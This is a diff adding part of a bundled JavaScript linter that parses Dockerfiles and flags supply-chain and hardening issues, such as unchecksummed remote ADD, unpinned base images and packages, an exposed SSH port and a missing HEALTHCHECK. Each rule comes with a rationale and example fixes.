+    /\$\{([A-Za-z_][A-Za-z0-9_]*)(?:(:?[-+])([^}]*))?\}|\$([A-Za-z_][A-Za-z0-9_]*)/g,
+    (_match, braced, operator, word, bare) => {
+      const name = braced ?? bare;
+      const current = args.get(name);
+      const isSet = current !== void 0;
+      const isNonEmpty = current !== void 0 && current !== "";
+      switch (operator) {
+        case ":-":
+          return current !== void 0 && current !== "" ? current : word ?? "";
+        case "-":
+          return current ?? word ?? "";
+        case ":+":
+          return isNonEmpty ? word ?? "" : "";
+        case "+":
+          return isSet ? word ?? "" : "";
+        default:
+          if (!isSet) unresolved = true;
+          return current ?? "";
+      }
+    }
+  );
+  return unresolved ? void 0 : result;
+}
+function joinContinuations(text, start, end, escape2) {
+  const chars = [];
+  const offsets = [];
+  let i = start;
+  while (i < end) {
+    const c = text[i];
+    if (c === escape2) {
+      let j = i + 1;
+      while (j < end && (text[j] === " " || text[j] === "	" || text[j] === "\r")) j++;
+      if (j >= end || text[j] === "\n") {
+        i = j + 1;
+        while (i < end) {
+          let lineEnd = text.indexOf("\n", i);
+          if (lineEnd < 0 || lineEnd > end) lineEnd = end;
+          if (!/^[ \t\r]*(#.*)?$/.test(text.slice(i, lineEnd))) break;
+          i = lineEnd + 1;
+        }
+        continue;
+      }
+    }
+    chars.push(c);
+    offsets.push(i);
+    i++;
+  }
+  return { text: chars.join(""), offsets };
+}
+function parseJsonArray(src) {
+  const { text, offsets } = src;
+  let i = 0;
+  const skipSpace = () => {
+    while (i < text.length && /\s/.test(text[i])) i++;
+  };
+  skipSpace();
+  if (text[i] !== "[") return void 0;
+  i++;
+  const words = [];
+  skipSpace();
+  if (text[i] === "]") {
+    i++;
+    skipSpace();
+    return i === text.length ? words : void 0;
+  }
+  for (; ; ) {
+    skipSpace();
+    if (text[i] !== '"') return void 0;
+    const start = offsets[i];
+    i++;
+    const chars = [];
+    const charOffsets = [];
+    while (i < text.length && text[i] !== '"') {
+      if (text[i] === "\\") {
+        const next = text[i + 1];
+        const simple = {
+          '"': '"',
+          "\\": "\\",
+          "/": "/",
+          b: "\b",
+          f: "\f",
+          n: "\n",
+          r: "\r",
+          t: "	"
+        };
+        if (next !== void 0 && next in simple) {
+          chars.push(simple[next]);
+          charOffsets.push(offsets[i]);
+          i += 2;
+        } else if (next === "u" && /^[0-9a-fA-F]{4}$/.test(text.slice(i + 2, i + 6))) {
+          chars.push(String.fromCharCode(parseInt(text.slice(i + 2, i + 6), 16)));
+          charOffsets.push(offsets[i]);
+          i += 6;
+        } else {
+          return void 0;
+        }
+      } else {
+        chars.push(text[i]);
+        charOffsets.push(offsets[i]);
+        i++;
+      }
+    }
+    if (i >= text.length) return void 0;
+    i++;
+    words.push({ text: chars.join(""), offsets: charOffsets, start, substitutions: [] });
+    skipSpace();
+    if (text[i] === ",") {
+      i++;
+      continue;
+    }
+    if (text[i] !== "]") return void 0;
+    i++;
+    skipSpace();
+    return i === text.length ? words : void 0;
+  }
+}
+function isRun(instruction) {
+  return instruction.getKeyword() === "RUN";
+}
+function hasForeignShebang(body) {
+  const match2 = /^#!\s*(\S+)(?:\s+(\S+))?/.exec(body);
+  if (!match2) return false;
+  const interpreter = match2[1].split("/").pop();
+  const program = interpreter === "env" ? match2[2] ?? "" : interpreter;
+  return !SHELLS.has(program);
+}
+function runCommands(model, run19, shellIsPosix) {
+  const argsRange = run19.getArgumentsRange();
+  if (!argsRange) return { commands: [], execForm: false };
+  const options = { escape: model.escape === "`" ? null : "\\" };
+  const counter = { next: 0 };
+  const start = offsetOf(model, argsRange.start);
+  const end = offsetOf(model, run19.getRange().end);
+  const heredocs = isRun(run19) ? run19.getHeredocs() : [];
+  if (heredocs.length === 0) {
+    const joined = joinContinuations(model.text, start, end, model.escape);
+    const exec = parseJsonArray(joined);
+    if (exec) {
+      const command = { words: exec, assignments: [], pipeline: counter.next++, index: 0, depth: 0 };
+      return { commands: expandNested([command], options, 0, counter), execForm: true };
+    }
+    return { commands: shellIsPosix ? parseShell(joined, options, 0, counter) : [], execForm: false };
+  }
+  if (!shellIsPosix) return { commands: [], execForm: false };
+  const lastStartLine = Math.max(...heredocs.map((heredoc) => heredoc.getStartRange().end.line));
+  const commandEnd = Math.min(end, (model.lineStarts[lastStartLine + 1] ?? model.text.length + 1) - 1);
+  const commandLine = parseShell(joinContinuations(model.text, start, commandEnd, model.escape), options, 0, counter);
+  const main = commandLine.find((command) => command.depth === 0 && command.words.length > 0);
+  const mainInvocation = main ? invocation(main) : void 0;
+  const bodyIsScript = !main || mainInvocation !== void 0 && SHELLS.has(basename(mainInvocation.argv[0])) && !inlineScript(mainInvocation);
+  const commands = [...commandLine];
+  if (bodyIsScript) {
+    for (const heredoc of heredocs) {
+      const range3 = heredoc.getContentRange();
+      if (!range3) continue;
+      const bodyStart = offsetOf(model, range3.start);
+      const body = model.text.slice(bodyStart, offsetOf(model, range3.end));
+      if (hasForeignShebang(body)) continue;
+      commands.push(...parseShell(identityMapped(body, bodyStart), options, 0, counter));
+    }
+  }
+  return { commands, execForm: false };
+}
+function parseDockerfile(path8, text) {
+  const ast = import_dockerfile_ast.DockerfileParser.parse(text);
+  const lineStarts = computeLineStarts(text);
+  const escape2 = ast.getEscapeCharacter() === "`" ? "`" : "\\";
+  const instructions = ast.getInstructions();
+  if (instructions.length === 0) throw new DockerfileParseError("the Dockerfile has no instructions");
+  const globalArgs = /* @__PURE__ */ new Map();
+  const stages = [];
+  let current;
+  for (const instruction of instructions) {
+    const keyword = instruction.getKeyword();
+    if (keyword === "FROM") {
+      const from = instruction;
+      const name = from.getBuildStage()?.toLowerCase() ?? void 0;
+      const rawImage = from.getImage();
+      const image = rawImage === null ? void 0 : substituteArgs(rawImage, globalArgs);
+      const parent = image === void 0 ? void 0 : stages.find((stage) => stage.name !== void 0 && stage.name === image.toLowerCase());
+      current = { index: stages.length, from, name, image, instructions: [], parent };
+      stages.push(current);
+    } else if (current) {
+      current.instructions.push(instruction);
+    } else if (keyword === "ARG") {
+      for (const property of instruction.getProperties()) {
+        const value = property.getValue();
+        globalArgs.set(property.getName(), value === null ? void 0 : substituteArgs(value, globalArgs));
+      }
+    } else {
+      const start = instruction.getRange().start;
+      throw new DockerfileParseError(
+        `${keyword} before the first FROM: only ARG may come before FROM`,
+        start.line + 1,
+        start.character + 1
+      );
+    }
+  }
+  if (stages.length === 0) throw new DockerfileParseError("the Dockerfile has no FROM instruction");
+  const base = { path: path8, text, ast, escape: escape2, globalArgs, stages, lineStarts };
+  const runs = [];
+  for (const stage of stages) {
+    let shellIsPosix = true;
+    for (const instruction of stage.instructions) {
+      const keyword = instruction.getKeyword();
+      if (keyword === "SHELL") {
+        const shell = parseJsonArray(
+          joinContinuations(
+            text,
+            offsetOf(base, instruction.getArgumentsRange()?.start ?? instruction.getRange().end),
+            offsetOf(base, instruction.getRange().end),
+            escape2
+          )
+        );
+        shellIsPosix = shell !== void 0 && SHELLS.has(basename(shell[0]));
+      } else if (keyword === "RUN") {
+        runs.push({ instruction, stage, ...runCommands(base, instruction, shellIsPosix) });
+      } else if (keyword === "ONBUILD") {
+        const trigger = instruction.getTriggerInstruction();
+        if (trigger?.getKeyword() === "RUN")
+          runs.push({ instruction: trigger, stage, ...runCommands(base, trigger, shellIsPosix) });
+      }
+    }
+  }
+  return { ...base, runs };
+}
+function stageLabel(stage) {
+  return `stage/${stage.name ?? String(stage.index)}`;
+}
+
+// src/checks/manifests/dockerfile/report.ts
+var Reporter2 = class {
+  constructor(model, rule35) {
+    this.model = model;
+    this.rule = rule35;
+  }
+  model;
+  rule;
+  findings = [];
+  seen = /* @__PURE__ */ new Map();
+  report(input) {
+    const start = positionAt(this.model, input.offset);
+    const end = positionAt(this.model, input.offset + Math.max(0, input.length ?? 0));
+    const object = input.stage ? stageLabel(input.stage) : void 0;
+    const scope = `${object ?? ""}\0${input.key}`;
+    const count = (this.seen.get(scope) ?? 0) + 1;
+    this.seen.set(scope, count);
+    this.findings.push({
+      ruleId: this.rule.id,
+      severity: this.rule.severity,
+      title: input.title ?? this.rule.title,
+      message: input.message,
+      location: {
+        path: this.model.path,
+        startLine: start.line,
+        startColumn: start.column,
+        ...input.length ? { endLine: end.line, endColumn: end.column } : {},
+        ...object ? { object } : {}
+      },
+      key: count === 1 ? input.key : `${input.key}#${count}`,
+      ...input.fix ? { fix: input.fix } : {}
+    });
+  }
+  /** Reports at a shell word. The length covers the word when it sits on one line. */
+  reportWord(word, input) {
+    const last = word.offsets[word.offsets.length - 1];
+    const length = last !== void 0 && last >= word.start ? last + 1 - word.start : void 0;
+    const sameLine = length !== void 0 && !this.model.text.slice(word.start, word.start + length).includes("\n");
+    this.report({ ...input, offset: word.start, ...sameLine ? { length } : {} });
+  }
+};
+function code2(text, max = 80) {
+  const clean2 = text.replace(/[`\r\n]+/g, " ");
+  return "`" + (clean2.length > max ? `${clean2.slice(0, max - 1)}\u2026` : clean2) + "`";
+}
+var RUN_LOCATION_NOTE = "Findings point at the offending token on its real line. For a token on the first line of an instruction, put `# containersec:ignore <rule-id> <reason>` on the line above the instruction. For a token on a later line of a multi-line `RUN` (after a `\\` continuation or inside a heredoc script), put the comment inside the instruction, on the line directly above the token: Dockerfile comment lines are allowed between continued lines and are removed before the shell runs.";
+
+// src/checks/manifests/dockerfile/add.ts
+var REMOTE_RE = /^(?:https?|ftp):\/\//i;
+var GIT_RE = /^(?:git@|ssh:\/\/|git:\/\/)|\.git(?:#.*)?$/i;
+var ARCHIVE_RE = /\.(?:tar|tgz|tbz2?|txz|tzst|gz|bz2|xz|zst|lz4)$/i;
+function addInstructions(model) {
+  const result = [];
+  for (const stage of model.stages) {
+    for (const instruction of stage.instructions) {
+      if (instruction.getKeyword() !== "ADD") continue;
+      const flags = instruction.getFlags();
+      const checksum = flags.some((flag) => flag.getName().toLowerCase() === "checksum");
+      const range3 = instruction.getArgumentsRange();
+      if (!range3) continue;
+      const joined = joinContinuations(
+        model.text,
+        offsetOf(model, range3.start),
+        offsetOf(model, instruction.getRange().end),
+        model.escape
+      );
+      const json = parseJsonArray(joined);
+      let args = json ? json.map((word) => ({ value: word.text, offset: word.start })) : instruction.getArguments().map((argument) => ({
+        value: argument.getValue(),
+        offset: offsetOf(model, argument.getRange().start)
+      }));
+      const heredoc = args.find((arg) => arg.value.startsWith("<<"));
+      if (heredoc) {
+        const line = positionAt(model, heredoc.offset).line;
+        args = args.filter((arg) => positionAt(model, arg.offset).line <= line);
+      }
+      const sources = args.slice(0, -1).filter((source) => !source.value.startsWith("<<"));
+      result.push({ stage, checksum, sources });
+    }
+  }
+  return result;
+}
+var remoteRule = {
+  id: "dockerfile/add-remote-url",
+  check: "manifests",
+  title: "`ADD` downloads a remote file without a checksum",
+  severity: "medium",
+  description: "An `ADD` instruction fetches an `http(s)://`/`ftp://` URL or a Git repository and has no `--checksum=` flag, so nothing verifies what was downloaded.",
+  rationale: "Whoever controls the URL (the publisher, a compromised account, a hijacked domain, a proxy for `http://`) controls what goes into the image, and the build cache hides when the content changes. `ADD` with `--checksum=sha256:\u2026` (Dockerfile syntax 1.6+) fails the build when the content does not match; for Git sources the checksum is the commit hash.",
+  fix: "Pin the expected digest:\n\n```dockerfile\n# syntax=docker/dockerfile:1\nADD --checksum=sha256:24454f830cdd571e2c2d3ec10e0b7b6ecd5a1c3bd0a61da4c1eb5b5cd0a5a30e \\\n    https://example.com/tool-1.2.3.tar.gz /tmp/\n```\n\nor download in a `RUN` step and verify with `sha256sum -c` before use.",
+  references: ["https://docs.docker.com/reference/dockerfile/#add---checksum"]
+};
+var copyRule = {
+  id: "dockerfile/add-instead-of-copy",
+  check: "manifests",
+  title: "`ADD` used where `COPY` would do",
+  severity: "low",
+  description: "An `ADD` instruction copies a local file or directory that is not a tar archive. `ADD` is only needed for its extras (remote URLs, Git repositories, auto-extraction of local tar archives, plain or compressed: `.tar`, `.tar.gz`/`.tgz`, `.tar.bz2`, `.tar.xz`; `.zst` and `.lz4` names are accepted too); sources that use a variable are not judged.",
+  rationale: "`ADD` silently unpacks anything that looks like an archive. A file that is a tarball today (or is replaced by one in a later change, perhaps by a dependency) ends up extracted into the image, possibly overwriting system files, instead of copied. `COPY` does exactly one thing, which makes the Dockerfile easier to review.",
+  fix: "Use `COPY` for local files:\n\n```dockerfile\nCOPY ./config/app.yaml /etc/app/app.yaml\n```",
+  references: ["https://docs.docker.com/build/building/best-practices/#add-or-copy"]
+};
+var addRemoteUrl = {
+  rule: remoteRule,
+  check(model) {
+    const reporter = new Reporter2(model, remoteRule);
+    for (const add of addInstructions(model)) {
+      if (add.checksum) continue;
+      for (const source of add.sources) {
+        if (!REMOTE_RE.test(source.value) && !GIT_RE.test(source.value)) continue;
+        reporter.report({
+          offset: source.offset,
+          length: source.value.length,
+          stage: add.stage,
+          key: source.value,
+          message: `\`ADD ${code2(source.value).slice(1)} is downloaded without \`--checksum\`, so its content is not verified.`,
+          fix: `ADD --checksum=sha256:<digest> ${source.value} <dest>`
+        });
+      }
+    }
+    return reporter.findings;
+  }
+};
+var addInsteadOfCopy = {
+  rule: copyRule,
+  check(model) {
+    const reporter = new Reporter2(model, copyRule);
+    for (const add of addInstructions(model)) {
+      for (const source of add.sources) {
+        const value = source.value;
+        if (REMOTE_RE.test(value) || GIT_RE.test(value) || value.includes("$") || ARCHIVE_RE.test(value)) continue;
+        reporter.report({
+          offset: source.offset,
+          length: value.length,
+          stage: add.stage,
+          key: value,
+          message: `${code2(value)} is a local file that is not an archive; \`ADD\` adds nothing over \`COPY\` here.`,
+          fix: "COPY"
+        });
+      }
+    }
+    return reporter.findings;
+  }
+};
+
+// src/checks/manifests/dockerfile/commands.ts
+var cache2 = /* @__PURE__ */ new WeakMap();
+function runInvocations(model) {
+  const cached = cache2.get(model);
+  if (cached) return cached;
+  const result = [];
+  for (const run19 of model.runs) {
+    for (const command of run19.commands) {
+      const inv = invocation(command);
+      result.push({ run: run19, command, inv, program: basename(inv.argv[0]), args: inv.argv.slice(1) });
+    }
+  }
+  cache2.set(model, result);
+  return result;
+}
+function operands(args) {
+  return args.filter((word) => !word.text.startsWith("-"));
+}
+function dropOptionValues(args, names) {
+  const out = [];
+  for (let k = 0; k < args.length; k++) {
+    const text = args[k].text;
+    out.push(args[k]);
+    const name = text.replace(/^--?/, "");
+    if (text.startsWith("-") && !text.includes("=") && names.includes(name)) {
+      k++;
+    }
+  }
+  return out;
+}
+
+// src/checks/manifests/dockerfile/apt-upgrade.ts
+var UPGRADES = /* @__PURE__ */ new Set(["upgrade", "dist-upgrade", "full-upgrade", "safe-upgrade"]);
+var rule25 = {
+  id: "dockerfile/apt-upgrade",
+  check: "manifests",
+  title: "`apt-get upgrade` in a build step",
+  severity: "low",
+  description: "A `RUN` calls `apt-get upgrade`, `apt-get dist-upgrade`, `apt upgrade`/`full-upgrade` or `aptitude safe-upgrade`/`full-upgrade`, which upgrades every installed package of the base image to whatever the mirror has that day.",
+  rationale: "Upgrading inside the Dockerfile makes the image content depend on the build date instead of the reviewed Dockerfile, defeats base-image pinning, and can pull in packages (or maintainer scripts) that were never tested with the base image. Unprivileged containers also cannot complete some upgrades, leaving half-configured packages. Security fixes belong in a newer, pinned base image.",
+  fix: "Bump the base image to a patched release (by digest) instead, and install only the packages you need, pinned:\n\n```dockerfile\nFROM debian:12.8-slim@sha256:<digest>\nRUN apt-get update && apt-get install -y --no-install-recommends openssl=3.0.15-1~deb12u1 && rm -rf /var/lib/apt/lists/*\n```\n\nIf a single package needs a security fix before the base image has it, upgrade just that package with `apt-get install --only-upgrade <pkg>=<version>`.",
+  references: [
+    "https://docs.docker.com/build/building/best-practices/#apt-get",
+    "https://github.com/hadolint/hadolint/wiki/DL3005"
+  ],
+  exceptions: RUN_LOCATION_NOTE
+};
+var aptUpgrade = {
+  rule: rule25,
+  check(model) {
+    const reporter = new Reporter2(model, rule25);
+    for (const entry of runInvocations(model)) {
+      if (!["apt-get", "apt", "aptitude"].includes(entry.program)) continue;
+      const subcommand = operands(
+        dropOptionValues(entry.args, ["o", "option", "c", "config-file", "t", "target-release"])
+      )[0];
+      if (!subcommand || !UPGRADES.has(subcommand.text)) continue;
+      reporter.reportWord(subcommand, {
+        stage: entry.run.stage,
+        key: `${entry.program} ${subcommand.text}`,
+        message: `\`${entry.program} ${subcommand.text}\` upgrades every package to whatever the mirror serves at build time.`,
+        fix: "Use a newer pinned base image instead."
+      });
+    }
+    return reporter.findings;
+  }
+};
+
+// src/checks/manifests/dockerfile/base-image.ts
+function externalBase(stage) {
+  if (stage.parent || stage.image === void 0) return void 0;
+  if (stage.image.toLowerCase() === "scratch") return void 0;
+  return stage.image;
+}
+function imageOffset(model, stage) {
+  const range3 = stage.from.getImageRange();
+  if (!range3) return { offset: offsetOf(model, stage.from.getRange().start), length: 4 };
+  const offset = offsetOf(model, range3.start);
+  return { offset, length: offsetOf(model, range3.end) - offset };
+}
+var mutableRule = {
+  id: "dockerfile/base-image-latest",
+  check: "manifests",
+  title: "Base image is `latest` or untagged",
+  severity: "medium",
+  description: "A `FROM` line names an image with the `latest` tag or with no tag at all (which means `latest`), and without a digest. Default values of `ARG`s declared before the first `FROM` are substituted first (`${VAR:-default}` forms included). `scratch`, and `FROM` lines that name an earlier build stage, are not images and are fine. A `FROM` whose image depends on a build argument without a default cannot be judged and is not reported.",
+  rationale: "`latest` moves whenever the publisher pushes. Builds are not reproducible, a review of the Dockerfile says nothing about what is actually shipped, and a compromised or typo-squatted upstream push lands in your next build without any change on your side. It also silently pulls in major-version upgrades.",
+  fix: "Pin a specific version, ideally with its digest (see `dockerfile/base-image-no-digest`):\n\n```dockerfile\nFROM python:3.12.7-slim-bookworm@sha256:<digest>\n```\n\nGet the digest with `docker buildx imagetools inspect python:3.12.7-slim-bookworm` and let Renovate or Dependabot keep it current.",
+  references: ["https://docs.docker.com/build/building/best-practices/#pin-base-image-versions"]
+};
+var digestRule2 = {
+  id: "dockerfile/base-image-no-digest",
+  check: "manifests",
+  title: "Base image is not pinned by digest",
+  severity: "low",
+  description: "A `FROM` line names an image by a version tag (`node:20.11-alpine`) but not by digest (`@sha256:\u2026`). Tags can be moved to other content by whoever controls the repository; digests cannot. Stages, `scratch` and images that depend on a build argument without a default are not reported; `latest` and untagged images are reported by `dockerfile/base-image-latest` instead.",
+  rationale: "A tag is a mutable pointer. If the upstream registry account or a mirror is compromised, the attacker can re-point `node:20.11-alpine` at a backdoored image and every build picks it up. A digest makes the build content-addressed: the registry cannot serve anything else, and bumps become visible, reviewable diffs.",
+  fix: "Append the digest to the tag (the tag stays for humans, the digest is what is pulled):\n\n```dockerfile\nFROM node:20.11-alpine@sha256:<digest>\n```\n\nRenovate (`pinDigests: true`) and Dependabot update both together.",
+  references: [
+    "https://docs.docker.com/reference/dockerfile/#from",
+    "https://docs.renovatebot.com/docker/#digest-pinning"
+  ]
+};
+function checkStages(model, rule35, wanted) {
+  const reporter = new Reporter2(model, rule35);
+  for (const stage of model.stages) {
+    const image = externalBase(stage);
+    if (image === void 0) continue;
+    const pinning = pinningOf(image);
+    if (!wanted.includes(pinning)) continue;
+    const { offset, length } = imageOffset(model, stage);
+    const shown = stage.from.getImage() === image ? code2(image) : `${code2(stage.from.getImage() ?? "")} (${code2(image)})`;
+    const name = parseImageReference(image).name;
+    reporter.report({
+      offset,
+      length,
+      stage,
+      key: name,
+      message: pinning === "tag" ? `Base image ${shown} is pinned by tag only; the tag can be moved to different content.` : `Base image ${shown} ${pinning === "latest" ? "uses the `latest` tag" : "has no tag, so it means `latest`"}; every build may get a different image.`,
+      fix: `FROM ${name}:<version>@sha256:<digest>`
+    });
+  }
+  return reporter;
+}
+var baseImageLatest = {
+  rule: mutableRule,
+  check: (model) => checkStages(model, mutableRule, ["latest", "untagged"]).findings
+};
+var baseImageNoDigest = {
+  rule: digestRule2,
+  check: (model) => checkStages(model, digestRule2, ["tag"]).findings
+};
+
+// src/checks/manifests/dockerfile/expose-ssh.ts
+function includesPort(spec, port) {
+  const match2 = /^(\d+)(?:-(\d+))?(?:\/(?:tcp|udp|sctp))?$/i.exec(spec);
+  if (!match2) return false;
+  const low = Number(match2[1]);
+  const high = match2[2] === void 0 ? low : Number(match2[2]);
+  return low <= port && port <= high;
+}
+var rule26 = {
+  id: "dockerfile/expose-ssh",
+  check: "manifests",
+  title: "SSH port 22 exposed",
+  severity: "medium",
+  description: "An `EXPOSE` instruction declares port 22 (alone, with `/tcp`, or inside a range such as `20-30`).",
+  rationale: "An SSH server inside an application container is an extra, long-lived entry point with its own credentials and keys baked into or mounted into the image, outside the orchestrator's access control and audit trail. It is a favourite target of credential-stuffing bots once the port is published.",
+  fix: "Remove the SSH server and the `EXPOSE 22`. For debugging use the orchestrator: `docker exec`, `kubectl exec` or `kubectl debug` (ephemeral containers), which are authenticated and audited.",
+  references: ["https://docs.docker.com/reference/dockerfile/#expose"]
+};
+var exposeSsh = {
+  rule: rule26,
+  check(model) {
+    const reporter = new Reporter2(model, rule26);
+    for (const stage of model.stages) {
+      for (const instruction of stage.instructions) {
+        if (instruction.getKeyword() !== "EXPOSE") continue;
+        for (const argument of instruction.getArguments()) {
+          if (!includesPort(argument.getValue(), 22)) continue;
+          reporter.report({
+            offset: offsetOf(model, argument.getRange().start),
+            length: argument.getValue().length,
+            stage,
+            key: "expose-22",
+            message: `\`EXPOSE ${argument.getValue()}\` declares the SSH port.`,
+            fix: "Remove the SSH server and EXPOSE 22; use docker exec / kubectl debug."
+          });
+        }
+      }
+    }
+    return reporter.findings;
+  }
+};
+
+// src/checks/manifests/dockerfile/healthcheck.ts
+function hasHealthcheck(stage) {
+  for (let current = stage; current; current = current.parent) {
+    if (current.instructions.some((instruction) => instruction.getKeyword() === "HEALTHCHECK")) return true;
+  }
+  return false;
+}
+var rule27 = {
+  id: "dockerfile/missing-healthcheck",
+  check: "manifests",
+  title: "No `HEALTHCHECK` in the final stage",
+  severity: "low",
+  description: "The final stage (or an earlier stage it is built `FROM`) has no `HEALTHCHECK` instruction. `HEALTHCHECK NONE` counts as an explicit decision and is not reported: use it for images whose health is checked by the orchestrator (Kubernetes probes) or that are not long-running services. A `HEALTHCHECK` inherited from an external base image cannot be seen and is not taken into account. The finding points at the final `FROM`.",
+  rationale: "Without a health check, Docker and compose only know whether the process is alive, not whether it works: a deadlocked or half-compromised service keeps receiving traffic and `depends_on: condition: service_healthy` cannot work. This is a resilience and detection aid, hence the low severity.",
+  fix: 'Declare how to probe the service, or opt out explicitly:\n\n```dockerfile\nHEALTHCHECK --interval=30s --timeout=3s --retries=3 CMD ["/app/healthcheck"]\n# or, when Kubernetes probes are used:\nHEALTHCHECK NONE\n```',
+  references: ["https://docs.docker.com/reference/dockerfile/#healthcheck"]
+};
+var missingHealthcheck = {
+  rule: rule27,
+  check(model) {
+    const reporter = new Reporter2(model, rule27);
+    const final = model.stages[model.stages.length - 1];
+    if (!final || hasHealthcheck(final)) return [];
+    reporter.report({
+      offset: offsetOf(model, final.from.getRange().start),
+      length: 4,
+      stage: final,
+      key: "no-healthcheck",
+      message: "The final stage declares no `HEALTHCHECK` (use `HEALTHCHECK NONE` to opt out explicitly).",
+      fix: 'HEALTHCHECK --interval=30s --timeout=3s CMD ["/app/healthcheck"]'
+    });
+    return reporter.findings;
+  }
+};
+
+// src/checks/manifests/dockerfile/package-pins.ts
+function isUnknown(word) {
+  return word.text.includes("$") || word.text === "";
+}
+function aptPackages(entry) {
+  if (entry.program !== "apt-get" && entry.program !== "apt") return [];
+  if (!entry.args.some((word) => word.text === "install")) return [];
+  const packages = operands(
+    dropOptionValues(entry.args, ["t", "target-release", "o", "option", "c", "config-file"])
+  ).filter((word) => word.text !== "install");
+  return packages.filter(
+    (word) => !isUnknown(word) && !word.text.includes("=") && !word.text.includes("/") && !word.text.endsWith(".deb")
+  ).map((word) => ({ manager: entry.program, word, example: `${word.text}=<version>` }));
+}
+function apkPackages(entry) {
+  if (entry.program !== "apk" || !entry.args.some((word) => word.text === "add")) return [];
+  const packages = operands(
+    dropOptionValues(entry.args, ["t", "virtual", "repository", "X", "p", "root", "keys-dir", "cache-dir"])
+  ).filter((word) => word.text !== "add");
+  return packages.filter((word) => !isUnknown(word) && !/[=~]/.test(word.text) && !word.text.endsWith(".apk")).map((word) => ({ manager: "apk", word, example: `${word.text}=<version>` }));
+}
+var PIP_VALUE_OPTIONS = [
+  "abi",
+  "b",
+  "build",
+  "e",
+  "editable",
+  "extra-index-url",
+  "f",
+  "find-links",
+  "i",
+  "index-url",
+  "implementation",
+  "no-binary",
+  "only-binary",
+  "platform",
+  "prefix",
+  "progress-bar",
+  "proxy",
+  "python-version",
+  "root",
+  "src",
+  "t",
+  "target",
+  "trusted-host",
+  "upgrade-strategy",
+  "cert",
+  "client-cert",
+  "log",
+  "cache-dir",
+  "timeout",
+  "retries"
+];
+var VCS_RE = /^(?:git|hg|svn|bzr)(?:\+[a-z-]+)?:/;
+function pipPackages(entry) {
+  const texts = entry.args.map((word) => word.text);
+  let installAt = -1;
+  if (/^pip[0-9.]*$/.test(entry.program)) installAt = texts.indexOf("install");
+  else if (/^python[0-9.]*$/.test(entry.program)) {
+    const m = texts.findIndex((text, k) => text === "-m" && texts[k + 1] === "pip" && texts[k + 2] === "install");
+    installAt = m < 0 ? -1 : m + 2;
+  }
+  if (installAt < 0) return [];
+  const args = entry.args.slice(installAt + 1);
+  const argTexts = args.map((word) => word.text);
+  if (argTexts.some(
+    (text) => ["-r", "--requirement", ".", "-c", "--constraint"].includes(text) || /^--(?:requirement|constraint)=/.test(text) || /^-[rc]./.test(text)
+  )) {
+    return [];
+  }
+  return operands(dropOptionValues(args, PIP_VALUE_OPTIONS)).filter((word) => {
+    const text = word.text;
+    if (isUnknown(word)) return false;
+    if (/==|>=|<=|>|<|!=|~=|===/.test(text)) return false;
+    if (VCS_RE.test(text)) return !text.includes("@", text.indexOf("://") + 3) || !/@[^/]+$/.test(text);
+    if (text.endsWith(".whl") || text.endsWith(".tar.gz") || text.includes("/")) return false;
+    return true;
+  }).map((word) => ({ manager: "pip", word, example: `${word.text.replace(/\[.*$/, "")}==<version>` }));
+}
+function npmPackages(entry) {
+  if (entry.program !== "npm") return [];
+  const nonFlags = operands(entry.args);
+  if (!["install", "i", "add"].includes(nonFlags[0]?.text ?? "")) return [];
+  return nonFlags.slice(1).filter((word) => {
+    const text = word.text;
+    if (isUnknown(word)) return false;
+    if (/^git(?:\+(?:ssh|https?))?:\/\//.test(text)) return !text.includes("#");
+    if (/\.(?:tar|tar\.gz|tgz)$/.test(text) || /^(?:\/|\.\/|\.\.\/|~\/)/.test(text)) return false;
+    const withoutScope = text.startsWith("@") ? text.slice(text.indexOf("/") + 1) : text;
+    return !withoutScope.includes("@");
+  }).map((word) => ({ manager: "npm", word, example: `${word.text}@<version>` }));
+}
+function gemPackages(entry) {
+  if (entry.program !== "gem") return [];
+  const texts = entry.args.map((word) => word.text);
+  if (!texts.includes("install") && !texts.includes("i")) return [];
+  if (texts.some((text) => text === "-v" || text === "--version" || text.startsWith("--version="))) return [];
+  return operands(entry.args).filter((word) => !["install", "i", "--"].includes(word.text) && !isUnknown(word) && !word.text.includes(":")).map((word) => ({ manager: "gem", word, example: `${word.text}:<version>` }));
+}
+var rule28 = {
+  id: "dockerfile/unpinned-package",
+  check: "manifests",
+  title: "Package installed without a version pin",
+  severity: "low",
+  description: "A `RUN` installs a package without pinning its version, where the package manager allows a pin. Same semantics as hadolint: `apt-get install pkg` / `apt install pkg` without `=version` (DL3008; `pkg/release` and `.deb` files count as pinned), `apk add pkg` without `=version` or `~version` (DL3018), `pip install pkg` without a version specifier (DL3013; `-r requirements.txt`, `-c constraints.txt`, `.` and local paths are fine), `npm install pkg` without `@version` (DL3016; `-g` included, a bare `npm install` is fine), `gem install gem` without `:version` or `-v` (DL3028). Package names held in a variable are not judged. One finding per package.",
+  rationale: "An unpinned install takes whatever the repository serves on the day of the build: builds stop being reproducible, a rebuild can silently pull a broken or compromised release (dependency confusion, a hijacked maintainer account), and the reviewed Dockerfile does not say what is in the image.",
+  fix: "Pin exact versions, and let Renovate or Dependabot bump them:\n\n```dockerfile\nRUN apt-get update \\\n && apt-get install -y --no-install-recommends curl=7.88.1-10+deb12u8 \\\n && rm -rf /var/lib/apt/lists/*\nRUN apk add --no-cache bash=5.2.26-r0\nRUN pip install --no-cache-dir requests==2.32.3\nRUN npm install -g pnpm@9.12.1\nRUN gem install bundler:2.5.22\n```\n\nFor many Python or Node packages, install from a lock file (`pip install -r requirements.txt --require-hashes`, `npm ci`).",
+  references: [
+    "https://github.com/hadolint/hadolint/wiki/DL3008",
+    "https://github.com/hadolint/hadolint/wiki/DL3018",
+    "https://github.com/hadolint/hadolint/wiki/DL3013",
+    "https://github.com/hadolint/hadolint/wiki/DL3016",
+    "https://github.com/hadolint/hadolint/wiki/DL3028"
+  ],
+  exceptions: "Distribution packages from a repository pinned by snapshot (snapshot.debian.org, a dated mirror) are effectively pinned; except them with a policy exception on the path, naming the snapshot in the reason. " + RUN_LOCATION_NOTE
+};
+var unpinnedPackage = {
+  rule: rule28,
+  check(model) {
+    const reporter = new Reporter2(model, rule28);
+    for (const entry of runInvocations(model)) {
+      const found = [
+        ...aptPackages(entry),
+        ...apkPackages(entry),
+        ...pipPackages(entry),
+        ...npmPackages(entry),
+        ...gemPackages(entry)
+      ];
+      for (const { manager, word, example } of found) {
+        reporter.reportWord(word, {
+          stage: entry.run.stage,
+          key: `${manager}:${word.text}`,
+          message: `\`${manager}\` installs \`${word.text}\` without a version pin.`,
+          fix: example
+        });
+      }
+    }
+    return reporter.findings;
+  }
+};
+
+// src/checks/manifests/dockerfile/pipe-to-shell.ts
